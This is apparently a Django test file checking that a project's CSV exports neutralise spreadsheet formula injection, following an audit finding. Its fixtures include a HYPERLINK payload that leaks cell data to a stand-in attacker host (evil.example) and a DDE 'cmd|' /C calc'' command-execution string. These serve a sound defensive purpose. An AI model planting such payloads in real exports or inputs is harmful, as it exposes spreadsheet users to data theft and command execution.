"""Issue 13, finding 4: a User-Agent of ``=HYPERLINK(...)`` reached the admin's audit CSV
verbatim (and a patient's address the ledger reports): spreadsheets run such cells.
One shared writer (openkap.core.csvsafe) neutralises them in every export."""

import csv
import io
from decimal import Decimal

from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from openkap.audit.models import AuditAction
from openkap.audit.services import audit_record
from openkap.core.csvsafe import FORMULA_STARTS, SafeWriter, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_each_formula_start_gets_an_apostrophe():
    # OWASP "CSV Injection": = + - @ tab and carriage return.
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


def test_plain_text_numbers_and_dates_are_untouched():
    for value in ("Lindqvist", "", "-2.5", "+1", "10", 12, Decimal("-3.50"), None, "2026-12-06"):
        assert safe_cell(value) == value


@given(st.lists(st.lists(st.one_of(st.text(), st.integers()), max_size=5), max_size=5))
def test_no_written_cell_reads_back_as_a_formula(rows):
    out = io.StringIO()
    SafeWriter(out).writerows(rows)
    for row in _read(out.getvalue()):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or safe_cell(cell) == cell  # only plain numbers


def test_the_audit_export_neutralises_a_hostile_user_agent(admin, org, client_for):
    audit_record(by=None, action=AuditAction.LOGIN_FAILED, organization_id=org.id,
                 actor_email="x@test.org", user_agent=ATTACK, object_type="user")
    body = b"".join(client_for(admin).get(reverse("audit:export")).streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    agents = [r["user_agent"] for r in rows if r["action"] == "login_failed"]
    assert agents == ["'" + ATTACK]
